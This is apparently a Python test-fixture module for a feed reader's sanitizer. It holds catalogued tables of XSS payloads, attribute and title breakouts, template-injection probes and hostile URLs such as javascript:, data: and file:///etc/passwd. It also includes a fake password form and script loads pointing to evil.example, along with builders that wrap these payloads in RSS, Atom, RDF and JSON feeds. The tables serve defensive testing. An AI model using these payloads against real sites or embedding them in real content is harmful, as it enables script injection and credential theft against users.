"""The hostile inputs, one table per class, and the feeds that deliver them in every format.

Case ids follow the hostile-cases catalogue (X01, T02, XML03, N05 ...) with a suffix per variant,
so the parametrized test ids say which case failed. Each table is a class: adding a variant to it
adds it to every format, field and page the class is tested on.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from xml.sax.saxutils import escape, quoteattr

# --- XSS in item content (O-SAFE) ------------------------------------------------------------
# id -> (HTML, the text a reader must see, or None when only O-SAFE is asked)
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
CONTENT: dict[str, tuple[str, str | None]] = {
    "X01-script": ("<script>alert(1)</script>safe", "safe"),
    "X01-script-upper": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>safe", "safe"),
    "X02-img-onerror": ("<img src=x onerror=alert(1)>", None),
    "X04-javascript-href": ('<a href="javascript:alert(1)">x</a>', "x"),
    "X05-mixed-case": ('<a href="JaVaScRiPt:alert(1)">x</a>', "x"),
    "X05-upper-attr": ('<A HrEF="javascript:alert(1)">x</A>', "x"),
    "X06-decimal": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        "x",
    ),
    "X06-hex-no-semicolon": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)">x</a>',
        "x",
    ),
    "X06-named-colon": ('<a href="javascript&colon;alert(1)">x</a>', "x"),
    "X06-tab-inside": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "x"),
    "X06-newline-inside": ('<a href="java\nscript:alert(1)">x</a>', "x"),
    "X06-leading-control": ('<a href="&#x01; javascript:alert(1)">x</a>', "x"),
    "X06-padded-zeros": ('<a href="&#0000106avascript:alert(1)">x</a>', "x"),
    "X08-data-html-link": (f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>', "x"),
    "X08-data-html-img": ('<img src="data:text/html,<script>alert(1)</script>">', None),
    "X08-data-iframe": ('<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', None),
    "X08-data-svg-img": ('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', None),
    "X09-vbscript": ('<a href="vbscript:msgbox(1)">x</a>', "x"),
    "X09-livescript": ('<a href="livescript:alert(1)">x</a>', "x"),
    "X09-mocha": ('<a href="mocha:alert(1)">x</a>', "x"),
    "X12-meta-refresh-js": (
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        None,
    ),
    "X12-meta-refresh-web": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        None,
    ),
    "X12-base": ('<base href="https://evil.example/"><a href="/x">x</a>', "x"),
    "X14-form": (
        '<form action="https://evil.example/"><input type=password name=p>'
        "<button>Login</button></form>",
        None,
    ),
    "X14-formaction": ('<button formaction="javascript:alert(1)">x</button>', None),
    "X14-autofocus": ("<input autofocus onfocus=alert(1)>", None),
    "X14-textarea": ("<textarea>x</textarea><select><option>y</option></select>", None),
    "X17-svg-xlink": (
        '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
        None,
    ),
    "X17-svg-animate": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text y=20>x</text></a></svg>",
        None,
    ),
    "X17-svg-set": ("<svg><set attributeName=onmouseover to=alert(1) /></svg>", None),
    "X17-svg-use": ('<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>', None),
    "X17-svg-onload": ("<svg onload=alert(1)>", None),
    "X17-math": ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', None),
    "X19-noscript-title": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', None),
    "X19-noscript-style": ("<noscript><style></noscript><img src=x onerror=alert(1)>", None),
    "X21-comment-dashes": ("sa<!-- -- nonwhitespace >fe<script>alert(1);</script>", None),
    "X21-comment-empty": ("<!--><script>alert(1)</script>-->", None),
    "X21-comment-bang": ("<!--!><img src=x onerror=alert(1)>-->", None),
    "X21-comment-unclosed": ("x<!--", "x"),
    "X22-cdata-in-html": ("<![CDATA[<script>alert(1)</script>]]>", None),
    "X22-svg-cdata": ("<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", None),
    "X23-alt-breakout": (
        '<img src="https://ok.example/i.png" alt="&quot; onerror=alert(1) x=&quot;">',
        None,
    ),
    "X23-rowspan-markup": ('<table><tr><td rowspan="<b>injection</b>">t</td></tr></table>', "t"),
    "X23-backtick": ("<img src=`javascript:alert(1)`>", None),
    "X23-unclosed-tag": ("<img src=x onerror=alert(1)//", None),
    "X25-p-onmouseover": ("<p OnMouseOver=alert(1)>x</p>", "x"),
    "X25-details-ontoggle": (
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        None,
    ),
    "X25-source-onerror": ("<video><source onerror=alert(1)></video>", None),
    "X25-video-onloadstart": ("<video onloadstart=alert(1)><source></video>", None),
    "X25-body-onload": ("<body onload=alert(1)>x", "x"),
    "X25-marquee": ("<marquee onstart=alert(1)>x</marquee>", "x"),
    "X25-style-attr": ('<p style="background:url(javascript:alert(1))">x</p>', "x"),
    "X25-style-expression": ('<div style="width:expression(alert(1))">x</div>', "x"),
    "X25-style-element": ("<style>@import 'https://evil.example/x.css';</style>x", "x"),
    "X25-object": ('<object data="https://evil.example/x.swf"></object>x', "x"),
    "X25-embed": ('<embed src="https://evil.example/x.swf">x', "x"),
    "X25-iframe-srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>x', "x"),
    "X25-link-import": ('<link rel=import href="https://evil.example/">x', "x"),
    "X25-template": ("<template><img src=x onerror=alert(1)></template>x", "x"),
    "X27-target-blank": ('<a href="https://evil.example/" target="_blank">x</a>', "x"),
    "X28-ping": ('<a href="https://ok.example/" ping="https://tracker.example/">x</a>', "x"),
    "X28-referrerpolicy": (
        '<img referrerpolicy="unsafe-url" src="https://ok.example/i.png">',
        None,
    ),
    "X28-srcset-js": ('<img srcset="javascript:alert(1) 1x, https://ok.example/i.png 2x">', None),
    "X28-poster-js": (
        '<video poster="javascript:alert(1)" src="https://ok.example/v.mp4"></video>',
        None,
    ),
    "X28-cite-js": ('<blockquote cite="javascript:alert(1)">q</blockquote>', "q"),
    "X29-deep-nesting": ("<div>" * 100_000 + "x", None),
    "X31-relative-logout": ('<img src="/logout"><img src="/admin/feeds/1/delete">', None),
    "X31-protocol-relative": ('<img src="//evil.example/logout">', None),
    "X35-rtl-override": ('<a href="https://evil.example/">https://bank.example\u202e</a>', None),
}

# --- hostile text for titles, authors, categories, descriptions (O-TEXT) ---------------------
TEXT: dict[str, str] = {
    "T01-script": "<script>alert(1)</script>",
    "T02-attr-breakout": '"><img src=x onerror=alert(1)>',
    "T02-title-breakout": "</title><script>alert(1)</script>",
    "T03-img": "<img src=x onerror=alert(1)>",
    "T04-svg": "<svg onload=alert(1)>",
    "T04-quote-attr": 'a" onmouseover="alert(1)',
    "T04-single-quote": "a' onmouseover='alert(1)",
    "T04-template": "{{7*7}}${7*7}<%= 7*7 %>",
    "T04-json-breakout": '</script><script>alert(1)</script>"}',
}

# --- hostile URLs for links, enclosures, images, site and self URLs --------------------------
URLS: dict[str, str] = {
    "T06-javascript": "javascript:alert(1)",
    "T06-javascript-case": "JaVaScRiPt:alert(1)",
    "T06-javascript-space": " javascript:alert(1)",
    "T06-javascript-tab": "java\tscript:alert(1)",
    "T06-vbscript": "vbscript:msgbox(1)",
    "T07-data-html": "data:text/html,<script>alert(1)</script>",
    "T07-data-b64": f"data:text/html;base64,{B64_SCRIPT}",
    "T08-data-svg": "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "T06-file": "file:///etc/passwd",
}


# --- feeds that deliver the cases -------------------------------------------------------------

FORMATS = ("rss", "atom", "rdf", "json")


@dataclass
class Entry:
    """One item; every field may carry a payload."""

    guid: str = "urn:uuid:1"
    title: str = "An item"
    link: str = "https://ok.example/item"
    content: str | None = None  # HTML
    author: str | None = None
    categories: tuple[str, ...] = ()
    enclosure: str | None = None
    enclosure_type: str = "audio/mpeg"
    enclosure_length: str = "1"
    image: str | None = None
    comments: str | None = None


@dataclass
class Doc:
    """The feed itself."""

    title: str = "Hostile feed"
    link: str = "https://ok.example/"
    description: str = "A feed"
    image: str | None = None
    self_url: str | None = None
    entries: list[Entry] = field(default_factory=list)


def _x(text: str) -> str:
    return escape(text)


def _a(text: str) -> str:
    return quoteattr(text)


def rss(doc: Doc, *, cdata: bool = False) -> bytes:
    def html(value: str) -> str:
        if cdata and "]]>" not in value:
            return f"<![CDATA[{value}]]>"
        return _x(value)

    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:media="http://search.yahoo.com/mrss/"'
        ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'
        ' xmlns:atom="http://www.w3.org/2005/Atom"><channel>',
        f"<title>{html(doc.title) if cdata else _x(doc.title)}</title>",
        f"<link>{_x(doc.link)}</link><description>{_x(doc.description)}</description>",
    ]
    if doc.self_url:
        parts.append(f'<atom:link rel="self" href={_a(doc.self_url)}/>')
        parts.append(f'<atom:link rel="hub" href={_a(doc.self_url)}/>')
    if doc.image:
        parts.append(
            f"<image><url>{_x(doc.image)}</url><title>i</title><link>{_x(doc.link)}</link></image>"
        )
        parts.append(f"<itunes:image href={_a(doc.image)}/>")
    for e in doc.entries:
        parts.append("<item>")
        parts.append(f"<guid isPermaLink='false'>{_x(e.guid)}</guid>")
        parts.append(f"<title>{html(e.title) if cdata else _x(e.title)}</title>")
        parts.append(f"<link>{_x(e.link)}</link>")
        if e.content is not None:
            parts.append(f"<description>{html(e.content)}</description>")
            parts.append(f"<content:encoded>{html(e.content)}</content:encoded>")
        if e.author:
            parts.append(f"<author>{_x(e.author)}</author><dc:creator>{_x(e.author)}</dc:creator>")
        for c in e.categories:
            parts.append(f"<category>{_x(c)}</category>")
        if e.enclosure:
            parts.append(
                f"<enclosure url={_a(e.enclosure)} type={_a(e.enclosure_type)}"
                f" length={_a(e.enclosure_length)}/>"
            )
        if e.image:
            parts.append(f"<media:thumbnail url={_a(e.image)}/>")
            parts.append(f"<itunes:image href={_a(e.image)}/>")
        if e.comments:
            parts.append(f"<comments>{_x(e.comments)}</comments>")
        parts.append("</item>")
    parts.append("</channel></rss>")
    return "\n".join(parts).encode()


def atom(doc: Doc) -> bytes:
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/">',
        f"<title type='text'>{_x(doc.title)}</title><id>urn:uuid:feed</id>",
        f"<subtitle type='html'>{_x(doc.description)}</subtitle>",
        f"<link rel='alternate' href={_a(doc.link)}/><updated>2026-11-27T10:00:00Z</updated>",
    ]
    if doc.self_url:
        parts.append(f"<link rel='self' href={_a(doc.self_url)}/>")
        parts.append(f"<link rel='hub' href={_a(doc.self_url)}/>")
    if doc.image:
        parts.append(f"<logo>{_x(doc.image)}</logo><icon>{_x(doc.image)}</icon>")
    for e in doc.entries:
        parts.append("<entry>")
        parts.append(f"<id>{_x(e.guid)}</id><updated>2026-11-27T10:00:00Z</updated>")
        parts.append(f"<title type='html'>{_x(_x(e.title))}</title>")
        parts.append(f"<link rel='alternate' href={_a(e.link)}/>")
        if e.content is not None:
            parts.append(f"<summary type='html'>{_x(e.content)}</summary>")
            parts.append(f"<content type='html'>{_x(e.content)}</content>")
        if e.author:
            parts.append(f"<author><name>{_x(e.author)}</name></author>")
        for c in e.categories:
            parts.append(f"<category term={_a(c)} label={_a(c)}/>")
        if e.enclosure:
            parts.append(
                f"<link rel='enclosure' href={_a(e.enclosure)} type={_a(e.enclosure_type)}"
                f" length={_a(e.enclosure_length)}/>"
            )
        if e.image:
            parts.append(f"<media:thumbnail url={_a(e.image)}/>")
        if e.comments:
            parts.append(f"<link rel='replies' href={_a(e.comments)}/>")
        parts.append("</entry>")
    parts.append("</feed>")
    return "\n".join(parts).encode()


def rdf(doc: Doc) -> bytes:
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/">',
        f"<channel rdf:about={_a(doc.link)}><title>{_x(doc.title)}</title>",
        f"<link>{_x(doc.link)}</link><description>{_x(doc.description)}</description></channel>",
    ]
    if doc.image:
        parts.append(f"<image rdf:about={_a(doc.image)}><url>{_x(doc.image)}</url></image>")
    for e in doc.entries:
        parts.append(f"<item rdf:about={_a(e.guid)}>")
        parts.append(f"<title>{_x(e.title)}</title><link>{_x(e.link)}</link>")
        if e.content is not None:
            parts.append(f"<description>{_x(e.content)}</description>")
            parts.append(f"<content:encoded>{_x(e.content)}</content:encoded>")
        if e.author:
            parts.append(f"<dc:creator>{_x(e.author)}</dc:creator>")
        for c in e.categories:
            parts.append(f"<dc:subject>{_x(c)}</dc:subject>")
        parts.append("<dc:date>2026-11-27T10:00:00Z</dc:date></item>")
    parts.append("</rdf:RDF>")
    return "\n".join(parts).encode()


def json_feed(doc: Doc) -> bytes:
    data: dict[str, object] = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": doc.title,
        "home_page_url": doc.link,
        "description": doc.description,
        "items": [],
    }
    if doc.self_url:
        data["feed_url"] = doc.self_url
        data["hubs"] = [{"type": "WebSub", "url": doc.self_url}]
    if doc.image:
        data["icon"] = data["favicon"] = doc.image
    items: list[dict[str, object]] = []
    for e in doc.entries:
        item: dict[str, object] = {"id": e.guid, "title": e.title, "url": e.link}
        if e.content is not None:
            item["content_html"] = e.content
        if e.author:
            item["authors"] = [{"name": e.author, "url": e.comments or e.link}]
        if e.categories:
            item["tags"] = list(e.categories)
        if e.enclosure:
            item["attachments"] = [
                {"url": e.enclosure, "mime_type": e.enclosure_type, "size_in_bytes": 1}
            ]
        if e.image:
            item["image"] = item["banner_image"] = e.image
        if e.comments:
            item["external_url"] = e.comments
        items.append(item)
    data["items"] = items
    return json.dumps(data).encode()


def build(fmt: str, doc: Doc) -> bytes:
    return {"rss": rss, "atom": atom, "rdf": rdf, "json": json_feed}[fmt](doc)


CONTENT_TYPES = {
    "rss": "application/rss+xml",
    "atom": "application/atom+xml",
    "rdf": "application/rdf+xml",
    "json": "application/feed+json",
}
